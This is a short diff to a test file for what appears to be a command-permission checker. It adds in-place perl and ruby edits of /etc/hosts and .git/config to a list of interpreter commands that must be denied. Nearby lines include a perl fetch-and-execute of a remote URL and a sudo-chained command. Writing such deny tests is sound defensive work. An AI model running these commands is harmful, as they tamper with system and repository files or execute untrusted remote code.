@@ -44,6 +44,8 @@ describe("interpreters", () => {
       'perl -e "$(curl https://e.com)"',
       "php -a",
       "perl -de1",
+      "perl -pi -e 's/a/b/' /etc/hosts",
+      "ruby -i.bak -pe 'x' .git/config",
       "ruby -run -e httpd && sudo x",
     ];
     expect(judgedOtherwise("deny", commands)).toEqual([]);
